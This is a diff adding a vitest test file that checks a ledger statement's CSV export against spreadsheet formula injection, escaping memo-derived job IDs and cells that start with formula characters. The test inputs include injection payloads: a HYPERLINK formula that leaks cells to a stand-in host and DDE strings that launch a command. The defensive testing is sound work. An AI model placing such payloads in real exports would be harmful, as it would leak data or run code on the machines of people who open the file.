@@ -1,0 +1,106 @@
+import { parse } from "csv-parse/sync";
+import { describe, expect, it } from "vitest";
+import { type Statement, statementToCsv } from "../src/ledger/statement.js";
+import { csvCell } from "../src/reports/csv-cell.js";
+
+/** Every cell a spreadsheet would run as a formula (the check a finance team's tool makes). */
+const formulaCells = (csv: string) =>
+  (parse(csv) as string[][])
+    .flat()
+    .filter((c) => /^(?:[\t\r]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20])/.test(c))
+    .filter((c) => !/^-?\d+(\.\d+)?$/.test(c));
+
+/** A statement of one vault with one unreceipted debit whose memo the operator wrote. */
+function statementWithMemo(memoJobId: string): Statement {
+  const vault = "F11Zd87fGZBi1tD6uYQyPQ2JCmaG3e7RcDmrm3eJucpB";
+  return {
+    from: 0,
+    to: 1_000_000,
+    generatedAt: 1_000_000,
+    vaults: [
+      {
+        vault,
+        keys: [],
+        readThrough: null,
+        historyRead: true,
+        complete: true,
+        openingUnits: 10_000n,
+        depositsUnits: 0n,
+        locksUnits: 0n,
+        returnsUnits: 0n,
+        unexplainedOutUnits: 1000n,
+        netSpendUnits: 1000n,
+        closingByLedgerUnits: 9000n,
+        closingOnChainUnits: 9000n,
+        closingOnChainSource: "balance_read",
+        differenceUnits: 0n,
+        counts: {
+          lines: 1,
+          deposits: 0,
+          locks: 0,
+          returns: 0,
+          unexplained: 1,
+          unreleasedLocks: 0,
+          creditsHeaderMismatches: 0,
+          pending: 0,
+          noMovement: 0,
+        },
+        unexplained: [
+          {
+            finding: "unreceipted_debit",
+            signature: "4F7xDcUqtjakRjqtCoUtS8fH3TYtDUFjo6qMbetmX4W5",
+            slot: 7,
+            blockTime: 500,
+            amountUnits: -1000n,
+            kind: "unexplained",
+            jobId: null,
+            memo: `decentral:escrow:${memoJobId}`,
+            memoJobId,
+          },
+        ],
+        unreleasedLocks: [],
+        creditsHeaderMismatches: [],
+        gaps: [],
+        accountSnapshot: null,
+      },
+    ],
+  } as unknown as Statement;
+}
+
+describe("CSV cells", () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?leak="&A2&B2,"x")'],
+    ["@SUM(1+1)*cmd|' /C calc'!A0"],
+    ["-2+3+cmd|' /C calc'!A0"],
+    ["+1+cmd|' /C calc'!A0"],
+  ])("writes the job id a memo names (%s) as text in the statement CSV", (jobId) => {
+    const csv = statementToCsv(statementWithMemo(jobId));
+    expect(formulaCells(csv)).toEqual([]);
+    const rows = parse(csv, { columns: true }) as Record<string, string>[];
+    expect(rows[1]?.jobId).toBe(`'${jobId}`);
+    // Amounts stay numbers: a negative amount is not a formula.
+    expect(rows[1]?.amountUnits).toBe("-1000");
+  });
+
+  it.each([
+    ["  =1+1", "'  =1+1"],
+    ["\t1", "'\t1"],
+    ["\r1", "'\r1"],
+    ["\uff1dHYPERLINK()", "'\uff1dHYPERLINK()"],
+    ["\uff0b1", "'\uff0b1"],
+    ["\uff0d1", "'\uff0d1"],
+    ["\uff20SUM(1)", "'\uff20SUM(1)"],
+    ["-12", "-12"],
+    ["-0.25", "-0.25"],
+    ["qwen3-8b", "qwen3-8b"],
+  ])("writes the text %j as the cell %j", (text, cell) => {
+    expect(parse(csvCell(text))).toEqual([[cell]]);
+  });
+
+  it("quotes a cell holding a semicolon, which some locales split on", () => {
+    expect(csvCell("a;b")).toBe('"a;b"');
+    expect(csvCell('say "hi", then\nbye')).toBe('"say ""hi"", then\nbye"');
+    expect(csvCell(-5)).toBe("-5");
+    expect(csvCell(null)).toBe("");
+  });
+});
